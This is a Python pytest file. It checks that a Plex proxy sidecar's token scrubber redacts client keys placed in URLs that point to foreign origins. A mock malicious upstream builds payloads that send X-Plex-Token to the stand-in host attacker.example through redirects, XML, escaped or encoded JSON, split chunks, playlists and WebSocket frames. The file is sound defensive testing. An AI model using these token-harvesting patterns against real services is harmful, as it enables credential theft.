"""Invariant 1 and 3 on the way down: a malicious Plex cannot harvest a client's key.

The scrubber puts the client's own key where the upstream wrote its real token, so URLs
in Plex answers keep working. A malicious upstream therefore answers with the token in
a URL to *its* host (``Location``, an XML ``thumb``, a JSON-escaped or percent-encoded
nested URL, a protocol-relative one, its own address): rewritten naively, the client
would follow it and hand its key to the attacker. Each test asserts what the client
sees: ``REDACTED`` in any absolute URL to another origin, the key only in relative URLs,
bare values and absolute URLs to the sidecar's own public origin.
"""

from __future__ import annotations

import asyncio
import gzip
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from conftest import PLEX_TOKEN, MakeSidecar, Running, base_config

TOK = PLEX_TOKEN
EVIL = "https://attacker.example"


def attacker_plex() -> web.Application:
    app = web.Application()

    async def redirect(request: web.Request) -> web.Response:
        return web.Response(status=302, headers={"Location": f"{EVIL}/cb?X-Plex-Token={TOK}"})

    async def xml(request: web.Request) -> web.Response:
        body = f'<Video thumb="{EVIL}/t?X-Plex-Token={TOK}" key="/library/metadata/1?X-Plex-Token={TOK}"/>'
        return web.Response(text=body, content_type="text/xml")

    async def json_(request: web.Request) -> web.Response:
        own = f"http://{request.host}/library/x?X-Plex-Token={TOK}"  # the upstream's own address
        body = (
            f'{{"a": "https:\\/\\/attacker.example\\/x?X-Plex-Token={TOK}",'
            f' "b": "/photo/:/transcode?url=https%3A%2F%2Fattacker.example%2F%3FX-Plex-Token%3D{TOK}",'
            f' "c": "//attacker.example/?X-Plex-Token={TOK}",'
            f' "d": "{own}", "e": "https%253A%252F%252Fattacker.example%252F%253FX-Plex-Token%253D{TOK}",'
            f' "authToken": "{TOK}"}}'
        )
        return web.Response(text=body, content_type="application/json")

    async def own(request: web.Request) -> web.Response:
        """Absolute URLs built from the origin the sidecar says the client used, as many servers do."""
        proto = request.headers["X-Forwarded-Proto"]
        host = request.headers["X-Forwarded-Host"]
        body = (
            f'<Part key="{proto}://{host}/library/parts/1?X-Plex-Token={TOK}"'
            f' other="http://{request.query.get("listener", "")}/b?X-Plex-Token={TOK}"/>'
        )
        return web.Response(text=body, content_type="text/xml")

    async def split(request: web.Request) -> web.StreamResponse:
        """The attack in 7-byte pieces: cuts fall inside the URL and inside the token."""
        body = (
            f'<MediaContainer>{"<pad/>" * 50}<Video thumb="{EVIL}/t?X-Plex-Token={TOK}"'
            f' key="/library/metadata/1?X-Plex-Token={TOK}"/></MediaContainer>'
        ).encode()
        headers = {"Content-Type": "text/xml"}
        if request.query.get("gzip"):
            body = gzip.compress(body)
            headers["Content-Encoding"] = "gzip"
        resp = web.StreamResponse(headers=headers)
        resp.enable_chunked_encoding()
        await resp.prepare(request)
        for i in range(0, len(body), 7):
            await resp.write(body[i : i + 7])
            await asyncio.sleep(0)
        await resp.write_eof()
        return resp

    async def m3u8(request: web.Request) -> web.Response:
        body = (
            "#EXTM3U\n#EXT-X-TARGETDURATION:8\n#EXTINF:8,\n"
            f"{EVIL}/seg0.ts?X-Plex-Token={TOK}\n#EXTINF:8,\n"
            f"session/1/base/00001.ts?X-Plex-Token={TOK}\n"
        )
        return web.Response(text=body, content_type="application/vnd.apple.mpegurl")

    async def long(request: web.Request) -> web.Response:
        body = '<a b="' + "x" * 3072 + f"{TOK}" + '"/>'
        return web.Response(text=body, content_type="text/xml")

    async def ws(request: web.Request) -> web.WebSocketResponse:
        sock = web.WebSocketResponse()
        await sock.prepare(request)
        frame = f'{{"u": "{EVIL}/?X-Plex-Token={TOK}", "v": "/x?X-Plex-Token={TOK}"}}'
        await sock.send_str(frame)
        await sock.send_bytes(frame.encode())
        await sock.close()
        return sock

    for path, handler in [
        ("/ws", ws),
        ("/redirect", redirect),
        ("/xml", xml),
        ("/json", json_),
        ("/own", own),
        ("/split", split),
        ("/m3u8", m3u8),
        ("/long", long),
    ]:
        app.router.add_get(path, handler)
    return app


Rig = tuple[Running, TestServer, str]


async def rig_for(make_sidecar: MakeSidecar, aiohttp_server: Any, tmp_path: Path, **server: Any) -> Rig:
    up: TestServer = await aiohttp_server(attacker_plex())
    cfg = base_config(str(up.make_url("")).rstrip("/"), tmp_path, **({"server": server} if server else {}))
    run = await make_sidecar(cfg)
    _, key = await run.create_key(permissions={"upstreams": ["*"]})
    return run, up, key


@pytest.fixture
async def rig(make_sidecar: MakeSidecar, aiohttp_server: Any, tmp_path: Path) -> Rig:
    return await rig_for(make_sidecar, aiohttp_server, tmp_path)


async def fetch(run: Running, key: str, path: str, **headers: str) -> tuple[int, dict[str, str], str]:
    resp = await run.proxy.get(path, headers={"X-Plex-Token": key, **headers}, allow_redirects=False)
    body = (await resp.read()).decode()
    return resp.status, dict(resp.headers), body


def no_secret(key: str, text: str, *, key_allowed: int = 0) -> None:
    assert TOK not in text, text
    assert text.count(key) == key_allowed, text


async def test_a_redirect_to_another_origin_gets_redacted_not_the_key(rig: Rig) -> None:
    run, _, key = rig
    status, headers, _ = await fetch(run, key, "/redirect")
    assert status == 302
    assert headers["Location"] == f"{EVIL}/cb?X-Plex-Token=REDACTED"
    no_secret(key, repr(headers))


async def test_an_absolute_xml_attribute_is_redacted_a_relative_one_gets_the_key(rig: Rig) -> None:
    run, _, key = rig
    status, _, body = await fetch(run, key, "/xml")
    assert status == 200
    assert f'thumb="{EVIL}/t?X-Plex-Token=REDACTED"' in body
    assert f'key="/library/metadata/1?X-Plex-Token={key}"' in body
    no_secret(key, body, key_allowed=1)


async def test_escaped_encoded_protocol_relative_and_upstream_urls_are_redacted(rig: Rig) -> None:
    run, up, key = rig
    status, _, body = await fetch(run, key, "/json")
    assert status == 200
    assert "attacker.example\\/x?X-Plex-Token=REDACTED" in body
    assert "%3FX-Plex-Token%3DREDACTED" in body
    assert "%253FX-Plex-Token%253DREDACTED" in body
    assert '"//attacker.example/?X-Plex-Token=REDACTED"' in body
    assert f'"http://{up.host}:{up.port}/library/x?X-Plex-Token=REDACTED"' in body
    assert f'"authToken": "{key}"' in body  # a bare value (Plex's /myplex/account): the key, as before
    no_secret(key, body, key_allowed=1)


async def test_an_absolute_url_to_the_sidecars_own_origin_gets_the_key(rig: Rig) -> None:
    run, _, key = rig
    host = f"{run.proxy.host}:{run.proxy.port}"
    status, _, body = await fetch(run, key, "/own")
    assert status == 200
    assert f'key="http://{host}/library/parts/1?X-Plex-Token={key}"' in body
    no_secret(key, body, key_allowed=1)


async def test_behind_a_trusted_proxy_its_origin_is_the_sidecars_own(
    make_sidecar: MakeSidecar, aiohttp_server: Any, tmp_path: Path
) -> None:
    """The proxy's X-Forwarded-Host/Proto name the public origin: a URL to it gets the key; one
    to the listener's address (not what the client uses) is redacted."""
    run, _, key = await rig_for(make_sidecar, aiohttp_server, tmp_path, trusted_proxies=["127.0.0.1"])
    listener = f"{run.proxy.host}:{run.proxy.port}"
    status, _, body = await fetch(
        run, key, f"/own?listener={listener}", **{"X-Forwarded-Host": "media.example", "X-Forwarded-Proto": "https"}
    )
    assert status == 200
    assert f'key="https://media.example/library/parts/1?X-Plex-Token={key}"' in body
    assert f'other="http://{listener}/b?X-Plex-Token=REDACTED"' in body
    no_secret(key, body, key_allowed=1)


@pytest.mark.parametrize("encoded", [False, True], ids=["identity", "gzip"])
async def test_the_attack_split_across_chunks_is_still_redacted(rig: Rig, encoded: bool) -> None:
    run, _, key = rig
    status, headers, body = await fetch(run, key, "/split?gzip=1" if encoded else "/split")
    assert status == 200 and "Content-Encoding" not in headers
    assert f'thumb="{EVIL}/t?X-Plex-Token=REDACTED"' in body
    assert f'key="/library/metadata/1?X-Plex-Token={key}"' in body
    no_secret(key, body, key_allowed=1)


async def test_an_absolute_segment_in_a_playlist_is_redacted(rig: Rig) -> None:
    run, _, key = rig
    status, _, body = await fetch(run, key, "/m3u8")
    assert status == 200
    assert f"\n{EVIL}/seg0.ts?X-Plex-Token=REDACTED\n" in body
    assert f"\nsession/1/base/00001.ts?X-Plex-Token={key}\n" in body
    no_secret(key, body, key_allowed=1)


async def test_websocket_frames_follow_the_same_rule(rig: Rig) -> None:
    run, _, key = rig
    want = f'{{"u": "{EVIL}/?X-Plex-Token=REDACTED", "v": "/x?X-Plex-Token={key}"}}'
    async with run.proxy.ws_connect("/ws", headers={"X-Plex-Token": key}) as sock:
        text = await sock.receive()
        binary = await sock.receive()
    assert text.type == aiohttp.WSMsgType.TEXT and text.data == want
    assert binary.type == aiohttp.WSMsgType.BINARY and binary.data == want.encode()


async def test_a_long_run_without_a_delimiter_counts_as_foreign(rig: Rig) -> None:
    """3 KiB with no delimiter before the token: the look-back cannot tell, so no key."""
    run, _, key = rig
    status, _, body = await fetch(run, key, "/long")
    assert status == 200
    assert "x" * 3072 + "REDACTED" in body
    no_secret(key, body)
